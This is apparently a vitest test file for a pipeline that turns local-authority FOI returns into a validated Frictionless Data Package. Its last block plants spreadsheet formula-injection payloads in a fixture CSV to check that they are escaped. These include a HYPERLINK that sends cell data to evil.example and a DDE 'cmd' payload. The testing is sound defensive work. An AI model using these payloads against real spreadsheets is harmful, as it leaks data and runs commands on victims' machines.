import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { type CastError, Package } from "datapackage";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runIngest } from "../../src/pipeline/runIngest.js";
import { RunRecordSchema } from "../../src/write/describeRun.js";
import { ROOT } from "../support/cli.js";

/**
 * The outputs of a whole run on the bundled corpus, read back the way a
 * researcher's tools read them: a Frictionless validator (Frictionless' own
 * `datapackage` library) for datapackage.json and every CSV row, a
 * spreadsheet's eye for formulas, and a second run for reproducibility.
 */
let scratch: string;
const FIXED_TIME = new Date("2016-03-01T09:00:00Z");

async function ingest(folder: string, out: string, extra: { now?: () => Date } = {}) {
  return runIngest({ folder, out, strict: false, jobs: 1, ...extra });
}

async function listTree(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  return entries
    .filter((e) => e.isFile())
    .map((e) => join(e.parentPath, e.name).slice(dir.length + 1))
    .sort();
}

async function csvFiles(dir: string): Promise<string[]> {
  return (await listTree(dir)).filter((f) => f.endsWith(".csv"));
}

/** Every cell that a spreadsheet would read as a formula (a plain number such as -3 is not one). */
async function formulaCells(dir: string): Promise<string[]> {
  const found: string[] = [];
  for (const file of await csvFiles(dir)) {
    const rows = parse(await readFile(join(dir, file), "utf8")) as string[][];
    rows.forEach((row, r) => {
      row.forEach((cell, c) => {
        if (/^[=+\-@\t\r]/.test(cell) && !/^[-+]?\d+(\.\d+)?$/.test(cell))
          found.push(`${file}:${r + 1}:${c + 1} ${cell}`);
      });
    });
  }
  return found;
}

/** Validate datapackage.json and cast every row of every resource; returns every error found. */
async function validatePackage(dir: string): Promise<{ resources: string[]; errors: string[] }> {
  const pkg = await Package.load(join(dir, "datapackage.json"));
  const errors = pkg.errors.map((e) => `datapackage.json: ${e.message}`);
  for (const resource of pkg.resources) {
    if (!resource.table) {
      errors.push(`${resource.name}: not tabular`);
      continue;
    }
    const rows = await resource.table.read({ cast: true, forceCast: true });
    for (const row of rows) {
      if (row instanceof Error) {
        const e = row as CastError;
        errors.push(
          `${resource.name} row ${e.rowNumber ?? "?"}: ${[e.message, ...(e.errors ?? []).map((x) => x.message)].join("; ")}`,
        );
      }
    }
  }
  return { resources: pkg.resources.map((r) => r.name), errors };
}

beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), "foi-agg-outputs-"));
  await ingest(join(ROOT, "fixtures/returns"), join(scratch, "a"), { now: () => FIXED_TIME });
  await ingest(join(ROOT, "fixtures/returns"), join(scratch, "b"));
});
afterAll(async () => {
  await rm(scratch, { recursive: true, force: true });
});

describe("outputs of the bundled corpus", () => {
  it("describe every CSV in a Data Package that a Frictionless validator accepts, every row casting cleanly", async () => {
    const { resources, errors } = await validatePackage(join(scratch, "a"));
    expect(errors).toEqual([]);
    const csvs = await csvFiles(join(scratch, "a"));
    expect(resources.map((r) => `${r}.csv`).sort()).toEqual(csvs.sort());
  });

  it("give every measure a human label in the package", async () => {
    const pkg = JSON.parse(await readFile(join(scratch, "a", "datapackage.json"), "utf8")) as {
      resources: { name: string; schema: { fields: { name: string; title: string; categories?: unknown[] }[] } }[];
    };
    const values = pkg.resources.find((r) => r.name === "values");
    const measure = values?.schema.fields.find((f) => f.name === "measure");
    expect(measure?.categories).toContainEqual({
      value: "uasc_looked_after",
      label: expect.stringMatching(/unaccompanied|UASC/i),
    });
    const authorities = pkg.resources.find((r) => r.name === "authorities");
    expect(authorities?.schema.fields.find((f) => f.name === "uasc_looked_after")?.title).not.toBe("uasc_looked_after");
  });

  it("never give a summary total outside its own bounds", async () => {
    for (const file of ["summary-national.csv", "summary-regional.csv"]) {
      const rows = parse(await readFile(join(scratch, "a", file), "utf8"), { columns: true }) as Record<
        string,
        string
      >[];
      expect(rows.length).toBeGreaterThan(0);
      for (const r of rows) {
        const where = `${file} ${r.area_code} ${r.measure}`;
        expect(Number(r.exact_sum), where).toBeLessThanOrEqual(Number(r.lower));
        if (r.total === "") continue;
        expect(Number(r.total), where).toBeGreaterThanOrEqual(Number(r.lower));
        expect(Number(r.total), where).toBeLessThanOrEqual(Number(r.upper));
      }
      // The corpus has suppressed figures, so some totals must be empty: the rule is exercised.
      expect(rows.some((r) => r.total === "")).toBe(true);
    }
  });

  it("hold no cell a spreadsheet would run as a formula", async () => {
    expect(await formulaCells(join(scratch, "a"))).toEqual([]);
  });

  it("are byte-identical from run to run, except run.json", async () => {
    const a = await listTree(join(scratch, "a"));
    expect(await listTree(join(scratch, "b"))).toEqual(a);
    for (const file of a.filter((f) => f !== "run.json")) {
      expect(await readFile(join(scratch, "b", file), "utf8"), file).toBe(
        await readFile(join(scratch, "a", file), "utf8"),
      );
    }
  });

  it("record the run in run.json: version, request, folder, time and every input's sha256", async () => {
    const run = RunRecordSchema.parse(JSON.parse(await readFile(join(scratch, "a", "run.json"), "utf8")));
    expect(run.startedAt).toBe(FIXED_TIME.toISOString());
    expect(run.tool.version).toMatch(/^\d+\.\d+\.\d+/);
    expect(run.request.id).toBe("heading-back-to-harm-2015");
    expect(run.folder).toBe(join(ROOT, "fixtures/returns"));
    const bedford = run.returns.find((r) => r.path === "Bedford.csv");
    expect(bedford?.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(run.outputs["values.csv"]).toMatch(/^[0-9a-f]{64}$/);
    expect(Object.keys(run.outputs)).not.toContain("run.json");
  });
});

describe("a malicious return", () => {
  let out: string;
  beforeAll(async () => {
    const folder = join(scratch, "malicious");
    await mkdir(folder);
    await writeFile(
      join(folder, "Kent =HYPERLINK(x).csv"),
      [
        "Question,Answer",
        '"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",4',
        "UASC looked after,=1+2",
        "UASC went missing,@SUM(A1:A2)",
        "Trafficked children looked after,-2+3+cmd|' /C calc'!A0",
        "\tTrafficked children who went missing,+7",
        "Note,-",
      ].join("\n"),
    );
    out = join(scratch, "malicious-out");
    await ingest(folder, out);
  });

  it("leaves no cell that a spreadsheet would run as a formula in any CSV", async () => {
    const text = (await Promise.all((await csvFiles(out)).map((f) => readFile(join(out, f), "utf8")))).join("\n");
    // The payloads are there, as text.
    expect(text).toContain("'=1+2");
    expect(await formulaCells(out)).toEqual([]);
  });

  it("still writes a package whose every row casts", async () => {
    expect((await validatePackage(out)).errors).toEqual([]);
  });
});
